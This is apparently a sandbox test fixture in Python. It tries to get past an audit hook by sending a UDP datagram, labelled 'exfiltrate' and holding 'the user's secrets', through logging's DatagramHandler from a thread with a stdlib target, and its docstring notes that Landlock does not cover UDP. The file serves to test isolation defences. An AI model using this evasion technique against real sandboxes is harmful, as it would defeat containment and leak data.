"""Sends a datagram to the host's 127.0.0.1:$POISE_TEST_UDP_PORT from a thread whose target is stdlib code
(logging's DatagramHandler makes its socket lazily), so no candidate frame is on the stack and the audit
hook lets it through. Landlock does not cover UDP; only the job's own network namespace stops it."""

import logging
import logging.handlers
import os
import threading

handler = logging.handlers.DatagramHandler("127.0.0.1", int(os.environ["POISE_TEST_UDP_PORT"]))
record = logging.LogRecord("exfiltrate", logging.WARNING, __file__, 1, "the user's secrets", None, None)
failures = []
threading.excepthook = lambda args: failures.append(args.exc_type.__name__)
thread = threading.Thread(target=handler.emit, args=(record,))
thread.start()
thread.join()
raise RuntimeError(f"datagram sent, socket errors: {failures}, socket made: {handler.sock is not None}")
